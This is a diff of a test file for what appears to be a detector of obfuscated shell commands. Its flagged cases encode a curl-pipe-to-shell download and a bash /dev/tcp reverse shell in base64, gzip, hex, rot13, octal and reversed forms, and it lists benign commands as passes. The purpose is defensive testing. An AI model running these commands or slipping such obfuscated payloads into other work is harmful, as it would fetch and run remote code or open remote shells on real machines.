@@ -2,7 +2,7 @@ import { deobfCases, enc } from "./_deobf_testing.ts";
 import { gzipSync } from "node:zlib";
 
 const FETCH = "curl -fsSL http://198.51.100.7/i.sh | sh";
-const REV = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
+const REV = "/bin/bash -i > /dev/tcp/192.0.2.45/9001 0<&1 2>&1";
 const l1 = (u: Uint8Array) => btoa(Array.from(u, (c) => String.fromCharCode(c)).join(""));
 
 deobfCases("posix", [
@@ -14,7 +14,7 @@ deobfCases("posix", [
       `echo ${l1(gzipSync(FETCH))} | base64 -d | gunzip | sh`,
       `echo ${enc.hex(REV)} | xxd -r -p | sh`,
       `bash <<< "$(base64 -d <<< ${enc.b64(FETCH)})"`,
-      `echo '${enc.rot13(FETCH)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
+      `echo '${enc.rot13(FETCH)}' | tr "A-Za-z" "N-ZA-Mn-za-m" | dash`,
       `eval "$(printf '${enc.oct(REV)}')"`,
       `printf %s '${enc.rev(REV)}' | rev | bash`,
       `echo '${
@@ -22,7 +22,7 @@ deobfCases("posix", [
       }' | base64 -d | rev | sh`,
     ],
     pass: [
-      `mkdir -p src/{components,hooks,utils}`,
+      `mkdir -p app/{models,views,tests}`,
       `git tag v1.2.0-\${SHA:0:7}`,
       `echo 'c2VydmVyOiBsb2NhbGhvc3QK' | base64 -d > config.yaml`,
       `xxd firmware.bin | head -40`,
